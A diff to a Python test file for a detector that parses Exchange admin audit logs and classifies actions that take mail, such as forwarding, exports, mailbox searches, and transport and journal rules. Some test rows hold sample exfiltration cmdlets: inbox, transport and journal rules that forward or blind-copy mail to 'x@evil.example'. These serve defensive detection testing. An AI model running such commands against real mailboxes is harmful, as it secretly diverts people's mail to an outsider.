@@ -82,6 +82,12 @@ def test_exports_and_forwarding_are_read_with_whose_and_where_to(tmp_path: Path)
         ("Set-Mailbox", '-Identity "anna" -ProhibitSendQuota "10GB"'),
         ("New-InboxRule", '-Mailbox "anna" -Name "News" -MoveToFolder "News"'),
         ("Get-MailboxExportRequest", '-Mailbox "anna"'),
+        ("Search-Mailbox", '-Identity "anna" -TargetMailbox "otto" -EstimateResultOnly'),
+        ("Search-Mailbox", '-Identity "anna" -SearchQuery "x" -DeleteContent'),
+        ("New-MailboxSearch", '-Name "s" -EstimateOnly'),
+        ("New-ComplianceSearchAction", '-SearchName "s" -Purge'),
+        ("New-TransportRule", '-Name "footer" -ApplyHtmlDisclaimerText "x"'),
+        ("Set-JournalRule", '-Identity "j" -Enabled $false'),
     ],
 )
 def test_what_takes_no_mail_is_none(ran: tuple[str, str], tmp_path: Path) -> None:
@@ -266,6 +272,52 @@ def test_what_does_not_tell_of_one_hand_makes_no_two_intrusions_one(ran: Sequenc
     case = _office(tmp_path, rows, ran)
     assert [len(one.clients) for one in case.held] == [1, 1]
     assert all(one.takings for one in case.held)
+
+
+@pytest.mark.parametrize(
+    ("told", "holder"),
+    [
+        ('-Identity "p15@gov.example\\Holiday"', "p15@gov.example"),
+        ('-Identity "gov.example/Users/otto\\Holiday/leave"', "otto"),
+        ('-Identity "GOV\\otto\\Holiday"', "gov\\otto"),
+        # a backslash in the rule's name
+        ('-Identity "otto@gov.example\\a\\b"', "otto@gov.example"),
+        ('-Mailbox "emma" -Identity "Holiday"', "emma"),
+        # without a mailbox named, it is that of whoever ran it
+        ('-Identity "Holiday"', "anna"),
+    ],
+)
+def test_a_rule_that_is_changed_is_of_the_mailbox_that_its_name_begins_with(
+    told: str, holder: str, tmp_path: Path
+) -> None:
+    (one,) = _taken(tmp_path, [(at(1, 9), "Set-InboxRule", f'{told} -ForwardTo "x@evil.example"', "gov/Users/anna")])
+    assert one.mailbox == holder
+
+
+@pytest.mark.parametrize(
+    ("cmdlet", "told", "kind", "mailboxes", "part"),
+    [
+        ("New-TransportRule", '-BlindCopyTo "x@evil.example" -SentTo "anna"', TakingKind.FLOW, [""], "SentTo anna"),
+        ("Set-JournalRule", '-Identity "j" -JournalEmailAddress "x@evil.example"', TakingKind.FLOW, [""], ""),
+        ("Search-Mailbox", '-Identity "anna" -TargetMailbox "otto"', TakingKind.COPY, ["anna"], ""),
+        ("Search-Mailbox", '-Identity "anna" -TargetMailbox "otto" -LogOnly', TakingKind.LISTING, ["anna"], ""),
+        (
+            "New-MailboxSearch",
+            '-SourceMailboxes "anna","emma" -TargetMailbox "otto"',
+            TakingKind.COPY,
+            ["anna", "emma"],
+            "",
+        ),
+        ("New-MailboxSearch", '-Name "s" -TargetMailbox "otto"', TakingKind.COPY, [""], ""),
+        ("New-MailboxSearch", '-Name "s" -SourceMailboxes "anna"', TakingKind.SEARCH, [""], ""),
+        ("New-ComplianceSearchAction", '-SearchName "s" -Export', TakingKind.SEARCH, [""], "s"),
+    ],
+)
+def test_copies_searches_and_rules_of_the_organisation_are_read(
+    cmdlet: str, told: str, kind: TakingKind, mailboxes: list[str], part: str, tmp_path: Path
+) -> None:
+    found = _taken(tmp_path, [(at(1, 9), cmdlet, told, "gov/Admins/adm")])
+    assert [(one.kind, one.mailbox, one.part) for one in found] == [(kind, each, part) for each in mailboxes]
 
 
 @pytest.mark.parametrize(
